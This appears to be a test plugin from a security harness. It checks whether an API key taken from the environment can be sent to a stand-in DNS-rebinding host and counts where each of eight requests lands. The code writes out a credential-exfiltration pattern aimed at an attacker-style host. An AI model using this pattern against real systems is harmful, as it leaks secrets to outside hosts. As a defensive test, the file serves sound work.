// Has its key sent to a host whose address changes.
import { plugin } from "./hostile.mjs";
import { get } from "./net.mjs";

const url = "https://rebind-169-254-169-254.key.example/close";

export default plugin("hostile-secrets-rebind", {
  attack: async ({ key }) => {
    const seen = { reached: 0, refused: 0, elsewhere: 0 };
    for (let i = 0; i < 8; i++) {
      try {
        const text = await get(url, { headers: { "x-api-key": process.env[key], ...(i % 4 < 2 ? { connection: "close" } : {}) } })();
        seen[text.startsWith("reached 93.184.216.34:") ? "reached" : "elsewhere"]++;
      } catch {
        seen.refused++;
      }
    }
    return { requests: Object.entries(seen).map(([what, n]) => `${n} ${what}`).join(", ") };
  },
});
